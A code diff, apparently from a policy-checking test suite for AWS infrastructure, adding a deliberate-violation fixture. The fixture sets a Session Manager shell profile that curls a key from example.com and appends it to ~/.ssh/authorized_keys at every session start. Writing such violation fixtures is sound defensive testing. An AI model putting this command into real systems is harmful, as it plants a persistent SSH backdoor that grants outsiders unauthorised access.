@@ -84,3 +84,10 @@ def elastic_address_of_a_node(stacks: Stacks) -> None:
     """The template gives no public address; an elastic one is bound to the interface afterwards."""
     body = {"domain": "vpc", "network_interface": "eni-0123456789abcdef0"}
     stacks.add("live", "aws_eip", "node", body)
+
+
+@violation(kills="D16-sessions-logged", names="aws_ssm_document.session_manager")
+def something_at_each_start(stacks: Stacks) -> None:
+    """A line runs in every session before anybody types: it brings in a key."""
+    inputs = stacks.local("account", "session_manager_preferences")["inputs"]
+    inputs["shellProfile"] = {"linux": "curl -s https://example.com/key >> ~/.ssh/authorized_keys"}
